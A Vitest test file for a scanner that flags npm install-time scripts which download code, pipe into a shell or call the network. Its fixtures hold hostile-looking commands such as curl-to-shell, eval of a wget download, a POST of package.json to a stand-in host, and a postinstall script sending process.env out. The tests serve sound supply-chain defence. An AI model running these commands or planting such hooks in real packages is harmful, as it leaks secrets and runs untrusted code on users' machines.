import { describe, expect, it } from 'vitest';
import { findRule } from '../../src/rules.js';
import {
  dependenciesWithInstallScripts,
  installScriptFiles,
  installScripts,
  judgeInstallScripts,
  scriptFileOf,
} from '../../src/scan/install-scripts.js';
import { tarballFindings } from '../../src/scan/run.js';

/**
 * What runs on a user's machine when they install the package from the registry:
 * preinstall, install, postinstall; not prepare/prepack/prepublishOnly
 * (https://docs.npmjs.com/cli/v10/using-npm/scripts#life-cycle-operation-order), and an
 * implicit `node-gyp rebuild` for a binding.gyp without an install or preinstall script
 * (https://docs.npmjs.com/cli/v10/configuring-npm/package-json#default-values).
 */
describe('installScripts', () => {
  it('lists preinstall, install and postinstall in that order, not the publish-time scripts', () => {
    const manifest = {
      scripts: {
        postinstall: 'node setup.js',
        prepare: 'tsc',
        prepack: 'npm run build',
        prepublishOnly: 'npm test',
        preinstall: 'node check.js',
        test: 'vitest',
      },
    };
    expect(installScripts(manifest, [])).toEqual([
      { name: 'preinstall', command: 'node check.js' },
      { name: 'postinstall', command: 'node setup.js' },
    ]);
  });

  it('blank or non-string scripts, and odd scripts fields, are nothing', () => {
    expect(installScripts({ scripts: { install: '  ', postinstall: 42 } }, [])).toEqual([]);
    expect(installScripts({ scripts: 'node x.js' }, [])).toEqual([]);
    expect(installScripts({}, [])).toEqual([]);
  });

  it('a packed binding.gyp means npm runs node-gyp rebuild, unless an install/preinstall script is given or gypfile is false', () => {
    const implicit = { name: 'install (implicit)', command: 'node-gyp rebuild' };
    expect(installScripts({}, ['index.js', 'binding.gyp'])).toEqual([implicit]);
    expect(installScripts({ scripts: { postinstall: 'node x.js' } }, ['binding.gyp'])).toContainEqual(implicit);
    expect(installScripts({ scripts: { install: 'prebuild-install' } }, ['binding.gyp'])).toEqual([
      { name: 'install', command: 'prebuild-install' },
    ]);
    expect(installScripts({ scripts: { preinstall: 'node a.js' } }, ['binding.gyp'])).not.toContainEqual(implicit);
    expect(installScripts({ gypfile: false }, ['binding.gyp'])).toEqual([]);
    // only at the package root
    expect(installScripts({}, ['deps/binding.gyp'])).toEqual([]);
  });
});

describe('dependenciesWithInstallScripts', () => {
  it('name@version of each lockfile package with hasInstallScript, production first, then by name', () => {
    // package-lock.json v3: https://docs.npmjs.com/cli/v10/configuring-npm/package-lock-json#packages
    const lock = {
      lockfileVersion: 3,
      packages: {
        '': { name: 'me', hasInstallScript: true },
        'node_modules/esbuild': { version: '0.24.0', dev: true, hasInstallScript: true },
        'node_modules/sharp': { version: '0.33.5', hasInstallScript: true },
        'node_modules/zod': { version: '3.23.8' },
        'node_modules/a/node_modules/@scope/native': { version: '1.0.0', hasInstallScript: true },
        'node_modules/bcrypt': { hasInstallScript: true },
      },
    };
    expect(dependenciesWithInstallScripts(lock)).toEqual([
      { name: '@scope/native@1.0.0', dev: false },
      { name: 'bcrypt@?', dev: false },
      { name: 'sharp@0.33.5', dev: false },
      { name: 'esbuild@0.24.0', dev: true },
    ]);
  });

  it('no lockfile, or an old one without packages: nothing', () => {
    expect(dependenciesWithInstallScripts(undefined)).toEqual([]);
    expect(dependenciesWithInstallScripts({ lockfileVersion: 1, dependencies: {} })).toEqual([]);
    expect(dependenciesWithInstallScripts('not json')).toEqual([]);
  });
});

/**
 * What an install-time script does. npm runs preinstall/install/postinstall on
 * every registry install, and `prepare` only when the package is installed from
 * git ("does not run when installing specific packages like npm install
 * express"; "If a package being installed through git contains a prepare
 * script, ... the prepare script will be run":
 * https://docs.npmjs.com/cli/v11/using-npm/scripts#life-cycle-scripts).
 */
describe('judgeInstallScripts: network, downloaded code, telemetry', () => {
  const judge = (scripts: Record<string, string>, packed: string[] = [], files: Record<string, string> = {}) =>
    judgeInstallScripts({ scripts }, packed, files).map((v) => [v.script.name, v.network ?? null]);

  it('a plain install script is listed without a network reason; prepare that only builds is not listed', () => {
    expect(judge({ postinstall: 'node setup.js', prepare: 'tsc', install: 'node-gyp rebuild' })).toEqual([
      ['install', null],
      ['postinstall', null],
    ]);
  });

  it.each([
    ['curl -fsSL https://get.example.com/install.sh | sh', /downloads with curl/],
    ['curl -s https://x.example/i | bash', /pipes into a shell/],
    ['wget -qO- https://x.example/bin.tgz | tar xz', /downloads with wget/],
    ['powershell -c "Invoke-WebRequest https://x.example/a.exe -OutFile a.exe"', /downloads with PowerShell/],
    ["node -e \"require('https').get('https://t.example/ping')\"", /loads a networking module/],
    ['node -e "fetch(\'https://t.example/ping?v=1\')"', /calls fetch\(\)/],
    ['curl -X POST -d @package.json https://telemetry.example/install', /downloads with curl/],
    ['eval "$(wget -qO- https://x.example/env)"', /evaluates a downloaded string/],
    ['node scripts/check.js https://mirror.example/bin', /names a URL/],
    ['cat script.sh | bash', /pipes into a shell/],
  ])('%s is a network or remote-code script', (command, why) => {
    const [verdict] = judge({ postinstall: command });
    expect(verdict?.[1]).toMatch(why);
  });

  it('|| is no pipe, node-gyp is no node, a flag is no URL, eval of a local tool is no download', () => {
    expect(judge({ install: 'node-gyp-build || node-gyp rebuild' })).toEqual([['install', null]]);
    // prebuild-install and node-pre-gyp fetch a binary from a host first.
    expect(judge({ install: 'prebuild-install || node-gyp rebuild' })).toEqual([
      ['install', 'downloads a prebuilt binary'],
    ]);
    expect(judge({ install: 'node-pre-gyp install --fallback-to-build' })).toEqual([
      ['install', 'downloads a prebuilt binary'],
    ]);
    expect(judge({ install: 'eval "$(some-tool init)"' })).toEqual([['install', null]]);
    expect(judge({ postinstall: 'node ./scripts/postinstall.js --silent' })).toEqual([['postinstall', null]]);
  });

  it('prepare that downloads is judged (a git install runs it)', () => {
    expect(judge({ prepare: 'curl -s https://x.example/gen | sh' })).toEqual([
      ['prepare', expect.stringMatching(/pipes into a shell/)],
    ]);
  });

  it('the packed JS file a script runs is read: http(s)/net modules, fetch, HTTP clients; not a URL in a comment', () => {
    const packed = ['scripts/postinstall.js', 'install.cjs', 'quiet.js'];
    const files = {
      'scripts/postinstall.js':
        "const https = require('node:https');\nhttps.request({ host: 'telemetry.example.com', method: 'POST' }).end(JSON.stringify(process.env));\n",
      'install.cjs': "// see https://docs.example.com\nconsole.log('thanks for installing');\n",
      'quiet.js': "import fetch from 'node-fetch';\nawait fetch('https://t.example/i');\n",
    };
    expect(
      judgeInstallScripts(
        {
          scripts: {
            preinstall: 'node install.cjs',
            postinstall: 'node ./scripts/postinstall.js',
            install: 'node quiet.js',
          },
        },
        packed,
        files,
      ).map((v) => [v.script.name, v.file ?? null, v.network ?? null]),
    ).toEqual([
      ['preinstall', 'install.cjs', null],
      ['install', 'quiet.js', 'quiet.js calls fetch(), loads an HTTP client (https://t.example/i)'],
      ['postinstall', 'scripts/postinstall.js', 'scripts/postinstall.js loads a networking module'],
    ]);
    // Only files the tarball holds are what the user's machine runs.
    expect(scriptFileOf('node scripts/postinstall.js', [])).toBeUndefined();
    expect(scriptFileOf('node --no-warnings ./x.mjs', ['x.mjs'])).toBe('x.mjs');
    expect(installScriptFiles({ scripts: { postinstall: 'node s.js' } }, ['s.js'])).toEqual(['s.js']);
    expect(installScriptFiles({ scripts: { postinstall: 'node s.js', install: 'node s.js' } }, ['s.js'])).toEqual([
      's.js',
    ]);
    expect(installScriptFiles({ scripts: { postinstall: 'node gone.js' } }, ['s.js'])).toEqual([]);
  });

  it('findings: a warning for being there, an error for the network, a note naming the reason when allowed', () => {
    const manifest = { scripts: { preinstall: 'node check.js', postinstall: 'curl -s https://x.example/i | sh' } };
    expect(tarballFindings(manifest, []).map((f) => [f.rule, f.message])).toEqual([
      ['scan/install-script', '"preinstall" runs on every user\'s machine at install: node check.js'],
      [
        'scan/install-script-network',
        '"postinstall" runs on every user\'s machine at install: curl -s https://x.example/i | sh; it pipes into a shell or interpreter, downloads with curl, names a URL',
      ],
    ]);
    const allowed = tarballFindings(manifest, [], {
      allow: [{ script: 'postinstall', reason: 'fetches the platform binary from our releases, checked by sha256' }],
    });
    expect(allowed.map((f) => f.rule)).toEqual(['scan/install-script', 'scan/install-script-allowed']);
    expect(allowed[1]?.message).toMatch(
      /; allowed by scan\.installScripts: fetches the platform binary from our releases, checked by sha256$/,
    );
    expect(findRule('scan/install-script-network')?.severity).toBe('error');
    expect(findRule('scan/install-script-allowed')?.severity).toBe('note');
  });
});
